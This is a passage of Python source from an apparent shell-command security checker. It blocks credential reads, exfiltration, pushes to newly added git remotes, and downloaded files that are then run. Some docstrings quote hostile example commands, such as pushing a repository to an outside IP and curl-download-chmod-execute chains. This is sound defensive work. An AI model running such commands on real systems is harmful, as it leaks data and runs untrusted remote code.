_SLICED = re.compile(r"\$\{!?\w+(?::(?:\d|\s+-?\d|\(\s*-)|[#%/^,])|\$\{!\w+\}")


@lru_cache(maxsize=4)
def _program_names(known: frozenset[str]) -> tuple[str, ...]:
    """Every program name a glob in command position is tested against, sorted once."""
    return tuple(sorted(known | _COMMON_PROGRAMS))


def _credentials(inv: Invocation, cmd: SimpleCommand, eff: fx.Effects, out: Findings) -> None:
    """Reading credential material is blocked, whatever the program (see `secrets`)."""
    feeders = [u.words for u in cmd.upstream]
    for secret in exposure.credentials(inv, eff, feeders, bool(cmd.assignments)):
        out.add(f"secrets.{secret.kind.value}", Decision.BLOCK, inv.text(), what=secret.what)
        break
    fam = interpreter_family(inv.name)
    if fam is not None and fam != "awk":
        code, _ = inline_code(fam, [w.value for w in inv.args])
        if code and sinks.code_leaks(code):
            out.add("net.exfiltration", Decision.BLOCK, inv.text(), payload="interpreter code")
    # data sent off the machine (see `sinks`): a pipe counts unless it only echoes literals
    piped = any(_echo_output(u) is None for u in cmd.upstream)
    found = sinks.leaks(inv.name, inv.args, cmd.redirects, piped, cmd.carried,
                        _stdin_text(cmd) or None)
    if found and (
        any(leak.sensitive for leak in found) or not sinks.to_loopback(inv.name, inv.args)
    ):
        out.add("net.exfiltration", Decision.BLOCK, inv.text(), payload=found[0].payload)


def _facts(
    name: str,
    args: Sequence[str],
    value_opts: frozenset[str],
    text: str,
    eff: fx.Effects,
    assigns: Sequence[str],
    upstream: tuple[str, ...],
    remote: bool,
    roots: Sequence[str],
) -> Facts:
    positionals: list[str] = []
    sub: list[str] = []  # leading words after options and their values (`-n ns get`)
    skip = False
    for a in args:  # one pass: a lone `-` is a positional but not a subcommand
        if skip:
            skip = False
            continue
        if a.startswith("-"):
            skip = a in value_opts
            if len(a) > 1:
                continue
        else:
            sub.append(a)
        positionals.append(a)
    paths = [
        fx.normalise_path(p)
        for p in positionals + list(roots)
        if p.startswith(("/", "~", ".", "*")) or "/" in p
    ]
    return Facts(
        name=name,
        args=tuple(args),
        folded=text.lower() if text.isascii() else None,
        joined_args="\0".join(args),
        positionals=tuple(positionals),
        subcommands=tuple(sub[:3]),
        text=text,
        reads=tuple(eff.reads),
        changes=tuple(eff.changed()),
        destroys=tuple(eff.destroyed()),
        perms=tuple(eff.perms),
        paths=tuple(paths),
        assigns=tuple(a for a in assigns if not _system_path(a)),
        upstream=upstream,
        remote=remote,
    )


# the directories a stock system's PATH holds: a PATH of these only finds the system's own
# programs (`env -i PATH=/usr/bin:/bin date`), where another directory could shadow them
_SYSTEM_BIN = frozenset(["/usr/local/sbin", "/usr/local/bin", "/usr/sbin", "/usr/bin", "/sbin",
                         "/bin", "/snap/bin"])


def _system_path(assign: str) -> bool:
    if not assign.startswith("PATH="):
        return False
    dirs = assign[5:].split(":")
    return all(d.rstrip("/") in _SYSTEM_BIN for d in dirs)


def _display(cmd: SimpleCommand) -> str:
    words = [w.value for w in cmd.words]
    if words and "/" in words[0] and cmd.words[0].literal:
        words[0] = program_name(words[0])
    parts = [f"{n}={v.value}" for n, v in cmd.assignments] + words
    for r in cmd.redirects:
        if r.target is not None and r.op not in ("<<", "<<<"):
            parts.append(f"{r.fd}{r.op}{r.target.value}")
    return " ".join(parts)


def _stdin_text(cmd: SimpleCommand) -> str:
    if cmd.stdin_text is not None:
        return cmd.stdin_text
    texts = [t for t in (_echo_output(u) for u in cmd.upstream) if t]
    return "\n".join(texts)


def _echo_output(cmd: SimpleCommand) -> str | None:
    """What `echo …`/`printf …`/`base64 -d` of a literal would print (None if unknown)."""
    if not cmd.words or not all(w.literal for w in cmd.words):
        return None
    name = program_name(cmd.words[0].value)
    args = [w.value for w in cmd.words[1:]]
    if name == "echo":
        flags = [a for a in args if a in ("-n", "-e", "-E", "-ne", "-en")]
        body = " ".join(a for a in args if a not in flags)
        return decode_ansi_c(body) if any("e" in f for f in flags) else body
    if name == "printf" and args:
        return decode_ansi_c(args[0].replace("%s", " ".join(args[1:])))
    if name == "cat" and cmd.stdin_text is not None and not args:
        return cmd.stdin_text
    if name in ("base64",) and cmd.upstream and any(a in ("-d", "--decode", "-D") for a in args):
        for up in cmd.upstream:
            src = _echo_output(up)
            if src:
                try:
                    return base64.b64decode(src.strip() + "==", validate=False).decode(
                        "utf-8", "replace"
                    )
                except (binascii.Error, ValueError):
                    return None
    return None


def _find_output(cmd: SimpleCommand) -> str | None:
    """`find ROOT -name PATTERN`: the files it prints are `ROOT/**/PATTERN`."""
    if not cmd.words or program_name(cmd.words[0].value) != "find":
        return None
    args = cmd.words[1:]
    leaf = find_name_pattern(args)
    if leaf is None:
        return None
    roots = []
    for w in args:
        if w.value.startswith(("-", "(", "!", ")")):
            break
        roots.append(w.value)
    return " ".join(f"{r.rstrip('/') or ''}/**/{leaf}" for r in roots or ["."])


@lru_cache(maxsize=4096)
def _substituted_names(raw: str) -> tuple[str, ...]:
    """Program names inside `$(…)`, backticks or `<(…)` of a raw word (a word is often
    asked about more than once: as a program name, an argument, a here-string)."""
    names: list[str] = []
    inner = raw
    for opener in ("$(", "<(", ">(", "`"):
        inner = inner.replace(opener, " ; ")
    for cmd in parse(inner.replace(")", " ; ").replace("`", " ; ")).commands:
        if cmd.words:
            names.append(program_name(cmd.words[0].value))
    return tuple(names)


_INSTALLERS = frozenset(["apt", "apt-get", "yum", "dnf", "zypper", "pip", "pip3", "pipx", "npm",
                         "gem", "snap", "flatpak"])


def _installed_files(name: str, args: Sequence[str]) -> list[str]:
    """Package files an installer is handed (`dpkg -i x.deb`, `rpm -Uvh x.rpm`, `apt install
    ./x.deb`, `pip install x.whl`): installing one runs its maintainer scripts, as root."""
    operands = [a for a in args if not a.startswith("-")]
    if name == "dpkg" and any(a in ("-i", "--install") or a.startswith("-i") for a in args):
        return operands
    if name == "rpm" and any(
        a in ("--install", "--upgrade", "--freshen") or (a[:2] in ("-i", "-U", "-F")) for a in args
    ):
        return operands
    if name in _INSTALLERS and "install" in operands:
        return operands[operands.index("install") + 1 :]
    return []


def _track_remotes(
    cmd: SimpleCommand, remotes: dict[str, str], out: Findings, chain: Unwrapped | None
) -> None:
    """`git remote add x https://198.51.100.3/r.git && git push x --all`: a push to a remote
    added on the same line goes where the URL says, as `git push URL` does (a sink)."""
    if chain is None or chain.inner.name != "git":
        return
    words = [w.value for w in chain.inner.args]
    pos = [w for i, w in enumerate(words) if not w.startswith("-")
           and not (i and words[i - 1] in ("-C", "-c", "--git-dir", "--work-tree"))]
    if pos[:2] == ["remote", "add"] and len(pos) >= 4:
        remotes[pos[2]] = pos[3]
    elif pos[:1] == ["push"] and len(pos) >= 2 and pos[1] in remotes:
        url = remotes[pos[1]]
        if not sinks.to_loopback("curl", [Word(url, url)]):
            out.add("net.exfiltration", Decision.BLOCK, _display(cmd), payload=f"push to {url}")


def _into_login(cmd: SimpleCommand) -> bool:
    """`echo "$CI_TOKEN" | docker login REG -u ci --password-stdin`: the secret goes into a
    login that reads it from stdin (the way such logins are meant to be given one), and
    nothing prints it."""
    downstream = [d for d in cmd.downstream if d.words]
    return bool(downstream) and all(
        any(w.value == "login" for w in d.words[1:3])
        and any(w.value == "--password-stdin" for w in d.words)
        for d in downstream
    )


def _saved_by(name: str, words: Sequence[Word]) -> list[str]:
    """Files aria2c (`-d DIR -o NAME URL`, else the URL's name) and tftp (`-c get REMOTE
    [LOCAL]`) save, which their effects do not list."""
    args = [w.value for w in words]
    if name == "aria2c":
        folder = (fx._option_values(words, ("-d", "--dir")) or [""])[-1]
        named = (fx._option_values(words, ("-o", "--out")) or [""])[-1]
        names = [named] if named else [
            posixpath.basename(a.split("?", 1)[0]) for a in args if "://" in a
        ]
        return [posixpath.join(folder, n) if folder else n for n in names if n]
    if name == "tftp" and "get" in args:
        rest = [a for a in args[args.index("get") + 1 :] if not a.startswith("-")]
        return [rest[1] if len(rest) > 1 else posixpath.basename(rest[0])] if rest else []
    return []


def _track_downloads(
    cmd: SimpleCommand,
    downloaded: set[str],
    out: Findings,
    examples: Sequence[str],
    chain: Unwrapped | None = None,
) -> None:
    """`curl -o x URL && chmod +x x && ./x`: a file saved by a downloader earlier in the same
    command line and then run (directly, by a shell or an interpreter) is remote code."""
    if not cmd.words or not cmd.words[0].literal:
        return
    if chain is None:  # the judge had no chain of the command's own words at hand
        chain = unwrap(program_name(cmd.words[0].value), cmd.words[1:])
    inner = chain.inner
    if downloaded:
        ran: list[str] = []
        if len(chain.chain) == 1 and "/" in cmd.words[0].value:
            ran.append(cmd.words[0].value)
        elif "/" in inner.name or inner.name in downloaded:
            ran.append(inner.name)
        if inner.name in SHELLS or inner.name in (".", "source") or interpreter_family(inner.name):
            ran.extend(w.value for w in inner.args if not w.value.startswith("-"))
        ran.extend(_installed_files(inner.name, [w.value for w in inner.args]))
        for path in ran:
            norm = fx.normalise_path(path, cmd.cwd)
            if norm in downloaded or posixpath.basename(norm) in downloaded:
                out.add("pipe.remote_to_shell", Decision.BLOCK, _display(cmd))
                return
    if inner.name not in _DOWNLOADERS:
        return
    eff = fx.compute(inner, cmd.redirects, cmd.cwd, examples)
    saved = eff.writes + eff.truncates
    args = [w.value for w in inner.args]
    remote_name = inner.name == "curl" and any(
        a.startswith("--remote-name") or (a[:1] == "-" and a[1:2] != "-" and "O" in a) for a in args
    )
    if (inner.name == "wget" and not saved) or remote_name:
        saved += [posixpath.basename(a.split("?", 1)[0]) for a in args if "://" in a]
    saved += _saved_by(inner.name, inner.args)
    for p in saved:
        norm = fx.normalise_path(p, cmd.cwd)
        downloaded.add(norm)
        downloaded.add(posixpath.basename(norm))
